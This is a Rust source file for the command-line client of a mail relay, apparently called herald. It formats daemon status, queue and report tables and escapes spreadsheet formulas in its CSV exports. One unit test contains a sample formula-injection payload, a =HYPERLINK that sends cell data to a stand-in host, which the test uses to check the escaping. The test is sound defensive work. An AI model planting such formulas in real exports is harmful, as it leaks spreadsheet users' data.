//! The client side of the control socket: one request, one answer, printed
//! for people (aligned tables, relative times) or as JSON Lines (`--json`).
//!
//! Exit codes: 0 done, 1 the daemon refused (bad id, ...), 2 the daemon is
//! not running (no socket, or nobody answers on it).

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;

use crate::control::Request;
use crate::state::spool::now_ms;
use crate::state::suppression::Entry;

pub enum CliError {
    /// Exit 2.
    NotRunning(String),
    /// Exit 1.
    Failed(String),
}

impl CliError {
    pub fn exit_code(&self) -> u8 {
        match self {
            CliError::NotRunning(_) => 2,
            CliError::Failed(_) => 1,
        }
    }

    pub fn message(&self) -> &str {
        match self {
            CliError::NotRunning(m) | CliError::Failed(m) => m,
        }
    }
}

/// The control socket named by the config. Only `[control] socket` is
/// read, so the CLI works for a user who cannot read the secrets the
/// config points to.
pub fn socket_path(config: &Path) -> Result<PathBuf, CliError> {
    let text = std::fs::read_to_string(config)
        .map_err(|e| CliError::Failed(format!("{}: {e}", config.display())))?;
    let v: toml::Value = toml::from_str(&text)
        .map_err(|e| CliError::Failed(format!("{}: {e}", config.display())))?;
    let sock = v
        .get("control")
        .and_then(|c| c.get("socket"))
        .and_then(|s| s.as_str())
        .unwrap_or("data/herald.sock");
    let p = Path::new(sock);
    Ok(if p.is_absolute() {
        p.to_path_buf()
    } else {
        config
            .parent()
            .filter(|d| !d.as_os_str().is_empty())
            .unwrap_or(Path::new("."))
            .join(p)
    })
}

/// Sends one request and returns the answer's data (without "ok").
pub fn request(socket: &Path, req: &Request) -> Result<Value, CliError> {
    let not_running = |e: std::io::Error| {
        CliError::NotRunning(format!(
            "herald is not running (control socket {}: {e})",
            socket.display()
        ))
    };
    let mut stream = UnixStream::connect(socket).map_err(not_running)?;
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .map_err(not_running)?;
    let mut line = serde_json::to_vec(req).map_err(|e| CliError::Failed(e.to_string()))?;
    line.push(b'\n');
    stream.write_all(&line).map_err(not_running)?;
    let mut answer = String::new();
    BufReader::new(&stream)
        .read_line(&mut answer)
        .map_err(not_running)?;
    if answer.is_empty() {
        return Err(CliError::NotRunning(
            "herald closed the control connection without answering".into(),
        ));
    }
    let mut v: Value = serde_json::from_str(&answer)
        .map_err(|e| CliError::Failed(format!("bad answer from herald: {e}")))?;
    if v["ok"] == Value::Bool(true) {
        if let Value::Object(m) = &mut v {
            m.remove("ok");
        }
        Ok(v)
    } else {
        Err(CliError::Failed(
            v["error"].as_str().unwrap_or("unknown error").to_string(),
        ))
    }
}

// ------------------------------------------------------------ output ----

/// "5m ago" / "in 2h" / "-".
pub fn relative(ms: Option<u64>) -> String {
    let Some(ms) = ms else {
        return "-".into();
    };
    let now = now_ms();
    let (secs, future) = if ms > now {
        ((ms - now) / 1000, true)
    } else {
        ((now - ms) / 1000, false)
    };
    let short = if secs < 60 {
        format!("{secs}s")
    } else if secs < 3600 {
        format!("{}m", secs / 60)
    } else if secs < 86400 {
        format!("{}h{:02}m", secs / 3600, secs % 3600 / 60)
    } else {
        format!("{}d{}h", secs / 86400, secs % 86400 / 3600)
    };
    if future {
        format!("in {short}")
    } else {
        format!("{short} ago")
    }
}

/// Aligns columns; the last column is not padded.
pub fn table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
    for r in rows {
        for (i, c) in r.iter().enumerate() {
            widths[i] = widths[i].max(c.chars().count());
        }
    }
    let mut out = String::new();
    let line = |cells: Vec<&str>, out: &mut String| {
        let n = cells.len();
        for (i, c) in cells.into_iter().enumerate() {
            out.push_str(c);
            if i + 1 < n {
                out.push_str(&" ".repeat(widths[i] - c.chars().count() + 2));
            }
        }
        out.push('\n');
    };
    line(headers.to_vec(), &mut out);
    for r in rows {
        line(r.iter().map(String::as_str).collect(), &mut out);
    }
    out
}

fn s(v: &Value) -> String {
    match v {
        Value::Null => "-".into(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

fn json_lines(items: &[Value]) {
    for i in items {
        println!("{}", serde_json::to_string(i).unwrap_or_default());
    }
}

fn arr(v: &Value, key: &str) -> Vec<Value> {
    v[key].as_array().cloned().unwrap_or_default()
}

/// The part every listing shares: `--json` prints the items as JSON Lines,
/// an empty list prints `empty`. Returns the items when a table is wanted.
fn listing(v: &Value, key: &str, json: bool, empty: &str) -> Option<Vec<Value>> {
    let items = arr(v, key);
    if json {
        json_lines(&items);
        return None;
    }
    if items.is_empty() {
        println!("{empty}");
        return None;
    }
    Some(items)
}

/// `[cluster]`: this node, whether it is degraded, and every node.
fn print_cluster(c: &Value) {
    if c.is_null() {
        return;
    }
    match c["degraded"].as_str() {
        Some(why) => println!(
            "cluster: node {}, DEGRADED ({why}); {} change(s) wait for Redis",
            s(&c["node"]),
            c["outbox"]
        ),
        None => println!("cluster: node {}, connected", s(&c["node"])),
    }
    for n in arr(c, "nodes") {
        let state = if n["alive"] == Value::Bool(false) {
            format!("GONE (last seen {})", relative(n["seen_ms"].as_u64()))
        } else if n["degraded"] == Value::Bool(true) {
            "degraded".into()
        } else {
            "up".into()
        };
        println!(
            "  node {}: {state}, {} message(s) queued, {} deferred recipient(s)",
            s(&n["node"]),
            n["messages"],
            n["deferred"]
        );
    }
}

pub fn print_status(v: &Value, json: bool) {
    if json {
        json_lines(std::slice::from_ref(v));
        return;
    }
    let paused = v["paused"].as_bool().unwrap_or(false);
    println!(
        "herald {}: running for {}, outbound delivery {}",
        s(&v["version"]),
        relative(Some(
            now_ms().saturating_sub(v["uptime_s"].as_u64().unwrap_or(0) * 1000)
        ))
        .trim_end_matches(" ago"),
        if paused {
            "PAUSED (herald resume)"
        } else {
            "active"
        }
    );
    if v["storage"]["ok"] == Value::Bool(false) {
        println!(
            "storage: FAILED {}: {} (new mail gets 451, delivery is held; herald probes the disk every 2s)",
            relative(v["storage"]["since_ms"].as_u64()),
            s(&v["storage"]["error"])
        );
    }
    print_cluster(&v["cluster"]);
    let recips: Vec<String> = v["recipients"]
        .as_object()
        .map(|m| m.iter().map(|(k, n)| format!("{n} {k}")).collect())
        .unwrap_or_default();
    println!(
        "queue: {} message(s){}",
        v["messages"],
        if recips.is_empty() {
            String::new()
        } else {
            format!(", recipients: {}", recips.join(", "))
        }
    );
    let last: Vec<String> = v["last_24h"]
        .as_object()
        .map(|m| m.iter().map(|(k, n)| format!("{k} {n}")).collect())
        .unwrap_or_default();
    println!(
        "last 24h: {}",
        if last.is_empty() {
            "no events".into()
        } else {
            last.join(", ")
        }
    );
    for r in arr(v, "routes") {
        let state = match r["healthy"].as_bool() {
            Some(true) if r["last_error"].is_string() => format!(
                "ok; last error {}: {}",
                relative(r["last_error_ms"].as_u64()),
                s(&r["last_error"])
            ),
            Some(true) => "ok".to_string(),
            Some(false) => format!(
                "UNHEALTHY since {}: {}",
                relative(r["since_ms"].as_u64()),
                s(&r["last_error"])
            ),
            None => "no attempt yet".to_string(),
        };
        let held = arr(v, "paused_routes")
            .iter()
            .any(|p| p.as_str() == r["name"].as_str());
        let held = if held {
            " (PAUSED: herald resume --route NAME)".replace("NAME", &s(&r["name"]))
        } else {
            String::new()
        };
        println!("route {}: {state}{held}", s(&r["name"]));
    }
    for d in arr(v, "destinations") {
        let mut line = format!(
            "destination {}: sessions {}/{}, rate {}",
            s(&d["name"]),
            d["sessions"],
            d["max_sessions"],
            d["rate"].as_str().unwrap_or("unlimited")
        );
        match d["throttled_until_ms"].as_u64() {
            Some(t) => line.push_str(&format!(", THROTTLED until {}", relative(Some(t)))),
            None => line.push_str(", not throttled"),
        }
        if let Some(r) = d["last_reply"].as_str() {
            line.push_str(&format!(", last throttle reply: {r}"));
        }
        println!("{line}");
    }
    if let Some(m) = v["reports"]["since_start"].as_object() {
        let counts: Vec<String> = m
            .iter()
            .filter(|(_, n)| n.as_u64() != Some(0))
            .map(|(k, n)| format!("{} {n}", k.replace('_', " ")))
            .collect();
        println!(
            "reports to {} since start: {}",
            s(&v["reports"]["domain"]),
            if counts.is_empty() {
                "none".into()
            } else {
                counts.join(", ")
            }
        );
        if let (Some(now), Some(max)) = (
            v["reports"]["stored_bytes"].as_u64(),
            v["reports"]["max_stored"].as_u64(),
        ) {
            println!(
                "reports stored: {:.1} of {:.1} MiB (bounces.max_stored)",
                now as f64 / 1048576.0,
                max as f64 / 1048576.0
            );
        }
    }
}

pub fn print_queue(v: &Value, json: bool) {
    let quarantined = arr(v, "quarantined");
    if let Some(msgs) = listing(v, "messages", json, "queue is empty") {
        print_queue_table(
            &msgs,
            v["paused"].as_bool().unwrap_or(false),
            &arr(v, "paused_routes"),
        );
        if v["paused"].as_bool() == Some(true) {
            println!("outbound delivery is PAUSED: nothing is attempted until herald resume");
        }
    }
    if json {
        let q: Vec<Value> = quarantined
            .iter()
            .map(|q| serde_json::json!({"quarantined": q["id"], "error": q["error"], "at_ms": q["at_ms"]}))
            .collect();
        json_lines(&q);
    } else if !quarantined.is_empty() {
        println!(
            "quarantined: {} record(s) that do not decode (herald cancel ID removes one):",
            quarantined.len()
        );
        for q in &quarantined {
            println!(
                "  {}  {}  {}",
                s(&q["id"]),
                relative(q["at_ms"].as_u64()),
                s(&q["error"])
            );
        }
    }
}

/// While delivery is paused, NEXT says so: a due time in the past would
/// read as if herald were stuck.
fn print_queue_table(msgs: &[Value], paused: bool, paused_routes: &[Value]) {
    let mut rows = Vec::new();
    for m in msgs {
        let held = paused_routes.iter().any(|p| {
            p.as_str()
                .is_some_and(|p| m["upstream"].as_str() == Some(p))
        });
        for r in arr(m, "rcpts") {
            let status = s(&r["status"]);
            if matches!(status.as_str(), "queued" | "deferred") {
                rows.push(vec![
                    s(&m["id"]),
                    relative(m["received_at"].as_u64()),
                    status,
                    s(&r["addr"]),
                    s(&r["attempts"]),
                    if paused {
                        "paused".to_string()
                    } else if held {
                        format!("held: route {} paused", s(&m["upstream"]))
                    } else {
                        relative(r["next_attempt"].as_u64())
                    },
                    s(&m["tag"]),
                    s(&r["last_reply"]),
                ]);
            }
        }
    }
    print!(
        "{}",
        table(
            &[
                "ID",
                "RECEIVED",
                "STATUS",
                "RECIPIENT",
                "TRIES",
                "NEXT",
                "TAG",
                "LAST REPLY"
            ],
            &rows
        )
    );
}

fn event_rows(events: &[Value]) -> Vec<Vec<String>> {
    events
        .iter()
        .map(|e| {
            vec![
                s(&e["time"]),
                relative(e["time_ms"].as_u64()),
                s(&e["id"]),
                s(&e["event"]),
                s(&e["class"]),
                s(&e["rcpt"]),
                s(&e["tag"]),
                s(&e["detail"]),
            ]
        })
        .collect()
}

const EVENT_HEADERS: [&str; 8] = [
    "TIME",
    "AGE",
    "ID",
    "EVENT",
    "CLASS",
    "RECIPIENT",
    "TAG",
    "DETAIL",
];

pub fn print_history(v: &Value, json: bool) {
    let Some(events) = listing(v, "events", json, "no matching events") else {
        return;
    };
    print!("{}", table(&EVENT_HEADERS, &event_rows(&events)));
}

pub fn print_show(v: &Value, json: bool) {
    if json {
        json_lines(std::slice::from_ref(v));
        return;
    }
    println!("id: {}", s(&v["id"]));
    let rep = &v["report"];
    if rep.is_object() {
        println!(
            "report: received {} from {} ({}), MAIL FROM <{}> to <{}>, {} bytes",
            relative(rep["received_ms"].as_u64()),
            s(&rep["peer"]),
            s(&rep["helo"]),
            s(&rep["mail_from"]),
            s(&rep["rcpt"]),
            s(&rep["size"])
        );
        println!("state: {}  kind: {}", s(&rep["state"]), s(&rep["kind"]));
        if rep["message"].is_string() {
            println!(
                "about: message {} to {}",
                s(&rep["message"]),
                s(&rep["recipient"])
            );
        }
        println!("summary: {}", s(&rep["summary"]));
        println!("\n{}", s(&v["text"]).trim_end());
        if v["truncated"] == Value::Bool(true) {
            println!("[... truncated]");
        }
        return;
    }
    if let Some(t) = v["tenant"].as_str() {
        println!("tenant: {t}");
    }
    let q = &v["queued"];
    if let Some(n) = v["node"].as_str().filter(|_| q.is_null()) {
        println!("state: received by node {n}, which holds its queue record and headers (herald show there); its events, from every node:");
    } else if q.is_null() {
        println!("state: no longer queued (every recipient is final; body deleted)");
    } else {
        println!(
            "received: {} ({})",
            relative(q["received_at"].as_u64()),
            s(&q["client_ip"])
        );
        println!(
            "envelope: from <{}> (sent as <{}>)",
            s(&q["original_sender"]),
            s(&q["mail_from"])
        );
        println!(
            "route: {}  tag: {}  size: {} bytes",
            s(&q["upstream"]),
            s(&q["tag"]),
            s(&q["size"])
        );
        let rows: Vec<Vec<String>> = arr(q, "rcpts")
            .iter()
            .map(|r| {
                vec![
                    s(&r["addr"]),
                    s(&r["status"]),
                    s(&r["class"]),
                    s(&r["attempts"]),
                    relative(r["next_attempt"].as_u64()),
                    s(&r["last_reply"]),
                ]
            })
            .collect();
        print!(
            "{}",
            table(
                &[
                    "RECIPIENT",
                    "STATUS",
                    "CLASS",
                    "TRIES",
                    "NEXT",
                    "LAST REPLY"
                ],
                &rows
            )
        );
    }
    if let Some(h) = v["headers"].as_str() {
        println!("\nheaders:\n{}", h.trim_end());
    }
    let events = arr(v, "events");
    if !events.is_empty() {
        println!("\nhistory:");
        print!("{}", table(&EVENT_HEADERS, &event_rows(&events)));
    }
    let reports = arr(v, "reports");
    if !reports.is_empty() {
        println!("\nreports about this message:");
        for r in reports {
            println!("  {} {}: {}", s(&r["id"]), s(&r["kind"]), s(&r["summary"]));
        }
    }
}

pub fn print_trace(v: &Value, json: bool) {
    if json {
        json_lines(std::slice::from_ref(v));
        return;
    }
    println!("{}", s(&v["addr"]));
    let sup = &v["suppression"];
    if sup.is_null() {
        println!("suppression: none");
    } else {
        println!(
            "suppression: SUPPRESSED since {} ({}{}), lifts {}",
            relative(sup["added_ms"].as_u64()),
            s(&sup["reason"]),
            sup["reply"]
                .as_str()
                .map(|r| format!(": {r}"))
                .unwrap_or_default(),
            match sup["expires_ms"].as_u64() {
                Some(e) => relative(Some(e)),
                None => "only by hand".into(),
            }
        );
    }
    for e in arr(v, "suppressions") {
        if let Some(t) = e["tenant"].as_str() {
            println!(
                "suppression: for tenant {t}'s mail only, since {} ({})",
                relative(e["added_ms"].as_u64()),
                s(&e["reason"])
            );
        }
    }
    for r in arr(v, "unhealthy_routes") {
        println!(
            "route {} is UNHEALTHY: {}",
            s(&r["name"]),
            s(&r["last_error"])
        );
    }
    let events = arr(v, "events");
    if !events.is_empty() {
        print!("{}", table(&EVENT_HEADERS, &event_rows(&events)));
    }
    println!("diagnosis: {}", s(&v["diagnosis"]));
}

pub fn print_suppressions(v: &Value, json: bool) {
    let Some(entries) = listing(v, "entries", json, "no suppressed addresses") else {
        return;
    };
    let rows: Vec<Vec<String>> = entries
        .iter()
        .map(|e| {
            vec![
                s(&e["addr"]),
                relative(e["added_ms"].as_u64()),
                match e["expires_ms"].as_u64() {
                    Some(x) => relative(Some(x)),
                    None => "never".into(),
                },
                s(&e["reason"]),
                s(&e["source_id"]),
                match e["tenant"].as_str() {
                    Some(t) => format!("tenant {t}"),
                    None => "everyone".into(),
                },
                s(&e["reply"]),
            ]
        })
        .collect();
    print!(
        "{}",
        table(
            &["ADDRESS", "ADDED", "LIFTS", "REASON", "SOURCE", "FOR", "REPLY"],
            &rows
        )
    );
}

/// `herald dmarc`: a diagnosis line per domain, then its sources.
pub fn print_dmarc(v: &Value, json: bool) {
    if json {
        println!("{v}");
        return;
    }
    let domains = v["domains"].as_array().cloned().unwrap_or_default();
    if domains.is_empty() {
        println!("no DMARC aggregate reports in this period (publish rua=mailto:the dmarc_address; see herald check-dns)");
    }
    for d in &domains {
        println!("{}", d["diagnosis"].as_str().unwrap_or(""));
        let mut rows = Vec::new();
        for (key, whose) in [("herald_sources", "herald"), ("other_sources", "OTHER")] {
            for src in d[key].as_array().cloned().unwrap_or_default() {
                rows.push(vec![
                    whose.to_string(),
                    src["ip"].as_str().unwrap_or("").to_string(),
                    src["messages"].to_string(),
                    src["passed"].to_string(),
                    src["dkim_aligned"].to_string(),
                    src["spf_aligned"].to_string(),
                    (src["quarantined"].as_u64().unwrap_or(0)
                        + src["rejected"].as_u64().unwrap_or(0))
                    .to_string(),
                ]);
            }
        }
        print!(
            "{}",
            table(
                &[
                    "SOURCE",
                    "IP",
                    "MESSAGES",
                    "PASSED",
                    "DKIM",
                    "SPF",
                    "QUARANTINED/REJECTED"
                ],
                &rows,
            )
        );
        println!();
    }
    for t in v["tls"].as_array().cloned().unwrap_or_default() {
        println!(
            "TLS to {}: {} sessions succeeded, {} failed {}",
            t["domain"].as_str().unwrap_or(""),
            t["successful"],
            t["failed"],
            t["failures"]
        );
    }
}

pub fn print_reports(v: &Value, json: bool) {
    let Some(list) = listing(v, "reports", json, "no reports") else {
        return;
    };
    let rows: Vec<Vec<String>> = list
        .iter()
        .map(|r| {
            vec![
                s(&r["id"]),
                relative(r["received_ms"].as_u64()),
                s(&r["state"]),
                r["kind"].as_str().unwrap_or("-").to_string(),
                format!(
                    "{} {}",
                    r["message"].as_str().unwrap_or("-"),
                    r["recipient"].as_str().unwrap_or("")
                ),
                s(&r["summary"]).chars().take(100).collect(),
            ]
        })
        .collect();
    print!(
        "{}",
        table(
            &["REPORT", "RECEIVED", "STATE", "KIND", "ABOUT", "SUMMARY"],
            &rows
        )
    );
}

pub fn print_webhooks(v: &Value, json: bool) {
    let Some(hooks) = listing(v, "webhooks", json, "no [[webhooks]] configured") else {
        return;
    };
    let rows: Vec<Vec<String>> = hooks
        .iter()
        .map(|h| {
            vec![
                s(&h["name"]),
                s(&h["backlog"]),
                s(&h["delivered"]),
                s(&h["dropped"]),
                relative(h["last_success_ms"].as_u64()),
                match h["last_error"].as_str() {
                    Some(e) => format!("{} ({})", e, relative(h["last_error_ms"].as_u64())),
                    None => "-".into(),
                },
            ]
        })
        .collect();
    print!(
        "{}",
        table(
            &[
                "NAME",
                "BACKLOG",
                "SENT",
                "DROPPED",
                "LAST SUCCESS",
                "LAST ERROR"
            ],
            &rows
        )
    );
}

// --------------------------------------------------------------- CSV ----

const CSV_HEADER: [&str; 8] = [
    "address",
    "reason",
    "reply",
    "source_id",
    "added",
    "expires",
    "automatic",
    "tenant",
];

fn ms_to_rfc3339(ms: Option<u64>) -> String {
    ms.map(crate::state::history::rfc3339).unwrap_or_default()
}

fn rfc3339_to_ms(s: &str) -> Result<Option<u64>, String> {
    if s.trim().is_empty() {
        return Ok(None);
    }
    humantime::parse_rfc3339_weak(s.trim())
        .map(|t| {
            t.duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_millis() as u64)
                .unwrap_or(0)
        })
        .map(Some)
        .map_err(|e| format!("{s:?}: {e}"))
}

/// The suppression list as CSV, with a header line.
pub fn suppressions_csv(v: &Value) -> Result<String, CliError> {
    let entries: Vec<Entry> = serde_json::from_value(v["entries"].clone())
        .map_err(|e| CliError::Failed(e.to_string()))?;
    let mut w = csv::Writer::from_writer(Vec::new());
    let fail = |e: csv::Error| CliError::Failed(e.to_string());
    w.write_record(CSV_HEADER).map_err(fail)?;
    for e in entries {
        w.write_record(
            [
                e.addr,
                e.reason,
                e.reply.unwrap_or_default(),
                e.source_id.unwrap_or_default(),
                ms_to_rfc3339(Some(e.added_ms)),
                ms_to_rfc3339(e.expires_ms),
                e.automatic.to_string(),
                e.tenant.unwrap_or_default(),
            ]
            .map(|c| csv_cell(&c)),
        )
        .map_err(fail)?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| CliError::Failed(e.to_string()))?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP's
/// list): a remote server's reply such as `=HYPERLINK(...)` must stay text.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell that a spreadsheet shows as text: one that would start a formula
/// gets a leading `'` (which [`parse_suppressions_csv`] takes off again).
fn csv_cell(text: &str) -> String {
    if text.starts_with(FORMULA_START) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// The text of a cell written by [`csv_cell`].
fn csv_uncell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => text,
    }
}

/// Reads CSV written by `suppression export` (or by hand: only `address`
/// is required; a file without a header line is a list of addresses).
pub fn parse_suppressions_csv(text: &str) -> Result<Vec<Entry>, String> {
    let has_header = text
        .lines()
        .next()
        .is_some_and(|l| l.to_ascii_lowercase().starts_with("address"));
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(has_header)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut out = Vec::new();
    for (i, rec) in rd.records().enumerate() {
        let rec = rec.map_err(|e| format!("line {}: {e}", i + 1))?;
        let get = |n: usize| csv_uncell(rec.get(n).unwrap_or("").trim()).to_string();
        let addr = get(0).to_lowercase();
        if addr.is_empty() {
            continue;
        }
        if !addr.contains('@') {
            return Err(format!(
                "line {}: {addr:?} is not an address",
                i + 1 + has_header as usize
            ));
        }
        let opt = |s: String| (!s.is_empty()).then_some(s);
        out.push(Entry {
            addr,
            reason: opt(get(1)).unwrap_or_else(|| "imported".into()),
            reply: opt(get(2)),
            source_id: opt(get(3)),
            added_ms: rfc3339_to_ms(&get(4))?.unwrap_or_else(now_ms),
            expires_ms: rfc3339_to_ms(&get(5))?,
            automatic: get(6) == "true",
            tenant: opt(get(7)),
            ..Default::default()
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_round_trip() {
        let v = serde_json::json!({"entries": [{
            "addr": "a@b.test", "reason": "bounced 1 time", "reply": "550 5.1.1 no, \"really\"",
            "source_id": "ABC", "added_ms": 1_700_000_000_000u64, "expires_ms": null, "automatic": true
        }]});
        let text = match suppressions_csv(&v) {
            Ok(t) => t,
            Err(e) => panic!("{}", e.message()),
        };
        let back = parse_suppressions_csv(&text).unwrap();
        assert_eq!(back.len(), 1);
        assert_eq!(back[0].reply.as_deref(), Some("550 5.1.1 no, \"really\""));
        assert_eq!(back[0].added_ms, 1_700_000_000_000);
        assert!(back[0].automatic);
        let plain = parse_suppressions_csv("x@y.test\nz@y.test\n").unwrap();
        assert_eq!(plain.len(), 2);
        assert!(parse_suppressions_csv("address\nnot-an-address\n").is_err());
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let reply = "smtp; =HYPERLINK(\"http://evil.test/x?\"&A2,\"click\")";
        let v = serde_json::json!({"entries": [{
            "addr": "-dash@b.test", "reason": "+1", "reply": reply,
            "source_id": "@SUM(A1)", "added_ms": 1_700_000_000_000u64, "expires_ms": null, "automatic": false
        }, {
            "addr": "tab@b.test", "reason": "\tx", "reply": "\rcr", "source_id": "=1+2",
            "added_ms": 1_700_000_000_000u64, "expires_ms": null, "automatic": false
        }]});
        let text = match suppressions_csv(&v) {
            Ok(t) => t,
            Err(e) => panic!("{}", e.message()),
        };
        let mut rd = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let mut cells = 0;
        for rec in rd.records() {
            for cell in rec.unwrap().iter() {
                cells += 1;
                assert!(!cell.starts_with(FORMULA_START), "{cell:?} in {text}");
            }
        }
        assert_eq!(cells, 16);
        // What was exported imports as it was.
        let back = parse_suppressions_csv(&text).unwrap();
        assert_eq!(back[0].addr, "-dash@b.test");
        assert_eq!(back[0].reason, "+1");
        assert_eq!(back[0].reply.as_deref(), Some(reply));
        assert_eq!(back[0].source_id.as_deref(), Some("@SUM(A1)"));
        assert_eq!(back[1].source_id.as_deref(), Some("=1+2"));
        // A value that merely starts with a quote stays as it was.
        assert_eq!(csv_uncell("'quoted"), "'quoted");
    }

    #[test]
    fn tables_align() {
        let t = table(&["A", "BB"], &[vec!["xxx".into(), "y".into()]]);
        assert_eq!(t, "A    BB\nxxx  y\n");
    }
}
